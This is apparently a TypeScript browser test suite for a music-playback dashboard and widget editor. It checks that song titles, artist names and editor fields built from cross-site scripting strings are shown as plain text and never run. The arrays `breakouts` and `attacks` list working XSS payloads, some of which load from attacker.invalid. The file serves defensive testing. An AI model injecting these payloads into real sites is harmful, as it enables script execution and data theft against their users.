import { expect } from "bun:test";
import { boundPlayback } from "../../src/channels/bounds.ts";
import type { SectionName } from "../../src/html/section-paths.ts";
import { AS_GIVEN } from "../../src/titles/shown-names.ts";
import type { WatchedPage } from "../fixtures/browser/chromium.ts";
import { type DashboardStage, onTheDashboard } from "../fixtures/browser/dashboard-page.ts";
import { titled } from "../fixtures/browser/overlay-page.ts";
import { unfold } from "../fixtures/browser/page-checks.ts";
import { aPlayback } from "../fixtures/sources/playback.ts";
import { everySo } from "../fixtures/thorough.ts";

/** What may lead out of the place that a name is written to. */
const breakouts = [
  "",
  `"`,
  `'`,
  `">`,
  `'>`,
  "`",
  "</p>",
  "</h3></section>",
  "</title>",
  "\n</textarea>",
  "</script>",
  "</style>",
  "-->",
  "]]>",
  "&quot;&gt;",
  "&lt;/p&gt;",
  String.raw`\u003c/p\u003e`,
  "%22%3E",
  "\u2028",
  "{source}",
];

const attacks = [
  "<script>window.ran=1</script>",
  "<script src=//attacker.invalid/ran></script>",
  "<img src=/ran onerror=window.ran=1>",
  "<svg/onload=alert(1)//",
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<a href="javascript:window.ran=1" autofocus onfocus=window.ran=1>x</a>`,
  "<details open ontoggle=confirm(1)>",
  "<style>@import url(//attacker.invalid/ran);</style>",
  `<meta http-equiv=refresh content="0;url=//attacker.invalid/ran">`,
  " onmouseover=window.ran=1 style=background:url(//attacker.invalid/ran) x=",
];

const hostile = breakouts.flatMap((breakout) => attacks.map((attack) => breakout + attack));
/** For tests of one name after the other: each attack and each way out at least once. */
const some = everySo(9, hostile);

/** A page that is to stay harmless. */
interface Guarded extends WatchedPage {
  /** All that has gone wrong in it so far. */
  harm(): Promise<string[]>;
}

async function guard(stage: DashboardStage, section: SectionName): Promise<Guarded> {
  const watched = await stage.open(section);
  const { page, complaints, hosts } = watched;
  const dialogs: string[] = [];
  const requests: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  page.on("request", (request) => {
    if (new URL(request.url()).pathname === "/ran") requests.push(request.url());
  });
  const own = new URL(stage.server.url).host;
  return {
    ...watched,
    async harm() {
      // The content policy would stop most of it; nothing may come as far as that.
      const elements = await page.evaluate(() => [
        ...("ran" in window ? ["a script ran"] : []),
        ...[...document.querySelectorAll("*")]
          .filter((element) =>
            element.matches(
              // The home shows the overlay and looks in frames of this server.
              "script:not([src^='/assets/']), style, base, meta[http-equiv], iframe:not([data-preview]):not([src^='/en/widget/mqw_']):not([src^='/en/demo?look='])",
            )
              ? true
              : [...element.attributes].some(
                  ({ name, value }) => name.startsWith("on") || /^javascript:/i.test(value),
                ),
          )
          .map((element) => element.outerHTML.slice(0, 120)),
      ]);
      const foreign = [...hosts].filter((host) => host !== own);
      return [...elements, ...dialogs, ...requests, ...foreign, ...complaints];
    },
  };
}

onTheDashboard(`${hostile.length} names that look like code`, (stage) => {
  const { test } = stage;
  test("stay the text that they are when they arrive on an open page", async () => {
    await stage.server.accounts.privacy.change(stage.ada.user, { titles: AS_GIVEN });
    await stage.plays();
    const { page, harm } = await guard(stage, "overlay");
    for (const name of some) {
      const given = aPlayback({
        ...titled(name),
        artists: [name, "and another"],
        album: { name, artworks: [] },
        device: { name, type: name, volumePercent: null },
        source: name,
      });
      await stage.plays(given);
      const { track, artists, album, device } = boundPlayback(given) ?? given;
      await page.waitForFunction(
        (wanted) => document.querySelector(".song .title")?.textContent === wanted,
        track.title,
      );
      expect(await page.locator(".song .words > p").allTextContents()).toEqual([
        "Now playing",
        track.title,
        artists.join(", "),
        album.name,
        device.name,
        "",
      ]);
    }
    expect(await harm()).toEqual([]);
  });

  test("do so when they are typed into the editor", async () => {
    const { page, harm } = await guard(stage, "widget");
    const [font = "", idleText = ""] = [hostile[5], hostile[12]];
    await page.goto(`${stage.address("widget")}?id=1`);
    await unfold(page);
    await page.locator("#option-font").fill(font);
    await page.locator("#option-idleText").fill(idleText);
    expect(await harm()).toEqual([]);
  });
});
